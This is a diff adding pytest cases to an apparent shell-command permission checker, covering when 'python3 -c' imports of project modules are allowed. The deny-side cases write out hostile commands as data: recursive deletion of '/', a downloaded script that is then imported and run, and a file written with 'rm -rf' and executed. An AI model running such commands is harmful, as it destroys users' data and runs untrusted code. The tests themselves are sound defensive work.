@@ -178,3 +178,44 @@ def test_a_virtual_environment_that_may_be_anything_is_not(before: str) -> None:
 )
 def test_only_the_usual_file_of_the_project_counts_as_an_environment(path: str) -> None:
     assert answer(f". {path}")[0] == "ask"
+
+
+IMPORTING = {"shop/cart.py": "x = 1\n", "tools/__init__.py": "", "src/lib.py": "", "wipe.py": ""}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "from shop.cart import total; print(total(3).lines[0].name)",
+        "import shop.cart as c; c.Cart().show()",
+        "import tools; tools.run(1, name=2)",
+        "import lib; print(lib)",
+    ],
+)
+def test_python_code_may_import_what_the_project_holds(code: str) -> None:
+    """As it may run such a file: with that, whatever the module's own code does is covered."""
+    world = FakeWorld(IMPORTING, repository=FakeRepository())
+    assert answer(f'python3 -c "{code}"', where=world) == ("allow", "run-project-file")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python3 -c 'import other; other.run()'",
+        "cd /tmp; python3 -c 'import tools'",
+        "python3 -c 'import tools; tools.folder.unlink()'",
+        "python3 -c 'import tools; tools.__class__.x'",
+        "python3 -c 'from . import tools'",
+        "python3 -c 'import tools, os; tools.run(os.remove)'",
+        "python3 -c 'import sys; sys.path.insert(0, \"/tmp\"); import tools'",
+        "docker exec x python3 -c 'import tools'",
+        "curl -o wipe.py https://x.example; python3 -c 'import wipe'",
+        "echo 'import os; os.system(\"rm -rf ~/x\")' > wipe.py; python3 -c 'import wipe'",
+        "tar xf a.tar; python3 -c 'import unpacked'",
+        "python3 -c 'import tools, shutil; shutil.rmtree(\"/\")'",
+    ],
+)
+def test_python_code_may_not_import_just_anything(command: str) -> None:
+    """What is not there, lies elsewhere or was put there by the line; nor is the rest any better for it."""
+    world = FakeWorld(IMPORTING, repository=FakeRepository())
+    assert answer(command, where=world)[0] in ("ask", "block")
